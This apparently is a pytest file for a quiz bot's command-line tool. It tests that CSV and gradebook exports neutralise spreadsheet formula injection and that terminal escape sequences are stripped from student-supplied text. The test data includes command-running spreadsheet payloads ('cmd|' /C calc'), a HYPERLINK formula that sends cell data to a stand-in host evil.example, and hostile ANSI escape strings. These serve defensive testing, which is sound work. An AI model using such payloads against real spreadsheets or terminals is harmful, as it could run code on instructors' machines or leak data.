"""What students type cannot reach the instructor's spreadsheet or terminal as code (issue 10):
formula cells in CSV exports are escaped, escape sequences in stored text are stripped."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

from bot.cli import cli
from bot.cli.common import clean
from bot.core.service.reports import spreadsheet_cell

ROOT = Path(__file__).resolve().parents[2]
STARTER = (ROOT / "questions" / "starter.yaml").read_text(encoding="utf-8")
HOSTILE = "\x1b]0;pwned\x07\x1b[2J\x1b[31mEve\x9b1m\u202e\x07"


TEXT_PACK = """id: words
title: Words
description: Three typed answers.
source: {title: Notes, author: me, outlet: class, date: "2026"}
questions:
  - {id: w1, type: text, prompt: "First word?", answers: [alpha], explanation: The notes.}
  - {id: w2, type: text, prompt: "Second word?", answers: [beta], explanation: The notes.}
  - {id: w3, type: text, prompt: "Third word?", answers: [gamma], explanation: The notes.}
"""


def run(*args: str | Path, stdin: str = ""):
    return CliRunner().invoke(cli, [str(a) for a in args], input=stdin)


@pytest.mark.parametrize("value", ["=HYPERLINK(\"http://x\",\"y\")", "+1+cmd|' /C calc'!A0",
                                   "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_formula_cells_get_a_leading_quote(value: str) -> None:
    assert spreadsheet_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Ann", "11000", " =spaced", "a=b", 100, 0, "", "'quoted"])
def test_other_cells_are_left_alone(value: object) -> None:
    assert spreadsheet_cell(value) == value


def test_export_escapes_a_students_formula_name_and_answers(tmp_path: Path) -> None:
    db = tmp_path / "q.sqlite3"
    name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    words = tmp_path / "words.yaml"  # typed-answer questions: any text is an answer to them
    words.write_text(TEXT_PACK, encoding="utf-8")
    assert run("pack", "install", words, "--db", db).exit_code == 0
    played = run("play", "--pack", "words", "--seed", "1", "--count", "3", "--name", name,
                 "--db", db, stdin="=1+1\n@SUM(A1:A9)\n-3\n")
    assert played.exit_code == 0, played.output
    exported = run("export", "--db", db)
    assert exported.exit_code == 0, exported.output
    rows = list(csv.DictReader(io.StringIO(exported.stdout)))
    assert len(rows) == 3
    assert {row["name"] for row in rows} == {"'" + name}
    assert [row["response"] for row in rows] == ["'=1+1", "'@SUM(A1:A9)", "'-3"]
    assert all(row["points"].lstrip("-").isdigit() for row in rows)  # numbers stay numbers


def test_clean_strips_escape_sequences_and_controls() -> None:
    assert clean(HOSTILE) == "Eve"
    assert clean("line one\nline two") == "line one\nline two"
    assert clean("a\tb\nc", one_line=True) == "a b c"
    assert clean("émoji 👩\u200d💻 ok") == "émoji 👩\u200d💻 ok"  # joiners are not controls


def _no_escapes(text: str) -> None:
    assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text, repr(text)
    assert "\u202e" not in text


def test_leaderboard_and_stats_strip_a_hostile_name(tmp_path: Path) -> None:
    db = tmp_path / "q.sqlite3"
    run("play", "--seed", "1", "--count", "1", "--name", HOSTILE, "--db", db, stdin="b\n")
    board = run("leaderboard", "--db", db)
    assert board.exit_code == 0 and "Eve" in board.stdout
    _no_escapes(board.stdout)
    stats = run("stats", "--name", HOSTILE, "--db", db)
    assert stats.exit_code == 0, stats.output
    _no_escapes(stats.stdout)


def test_ask_log_strips_escapes_from_what_students_asked(tmp_path: Path) -> None:
    db = tmp_path / "q.sqlite3"
    asked = run("ask", "--db", db, f"{HOSTILE} what is the airspeed of a swallow")
    assert asked.exit_code in (0, 1), asked.output
    log = run("ask-log", "--db", db)
    assert log.exit_code == 0 and "airspeed" in log.stdout, log.output
    _no_escapes(log.stdout)


def test_pack_show_and_report_strip_escapes_from_pack_text(tmp_path: Path) -> None:
    db = tmp_path / "q.sqlite3"
    pack = tmp_path / "hostile.yaml"
    pack.write_text(STARTER.replace("id: starter", "id: hostile", 1)
                    .replace('title: "Starter', 'title: "\\e]0;pwned\\a\\e[2JStarter', 1)
                    .replace('prompt: "Roughly', 'prompt: "\\e[31mRoughly', 1),
                    encoding="utf-8")
    installed = run("pack", "install", pack, "--db", db)
    assert installed.exit_code == 0, installed.output
    for args in (("pack", "show", "hostile"), ("pack", "list")):
        shown = run(*args, "--db", db)
        assert shown.exit_code == 0 and "Starter" in shown.stdout, shown.output
        _no_escapes(shown.stdout)
    run("play", "--pack", "hostile", "--seed", "1", "--count", "10", "--db", db,
        stdin="\x1b[2Jwrong\nskip\n" * 10)  # recorded where typed text is an answer
    report = run("report", "--pack", "hostile", "--db", db)
    assert report.exit_code == 0 and "wrong" in report.stdout, report.output
    _no_escapes(report.stdout)


def test_gradebook_escapes_a_formula_name_too(tmp_path: Path) -> None:
    db = tmp_path / "q.sqlite3"
    name = "@SUM(1+1)*cmd|' /C calc'!A0"
    run("play", "--seed", "1", "--count", "1", "--name", name, "--db", db, stdin="b\n")
    book = run("gradebook", "--db", db)
    assert book.exit_code == 0, book.output
    rows = list(csv.DictReader(io.StringIO(book.stdout)))
    assert [row["name"] for row in rows] == ["'" + name]
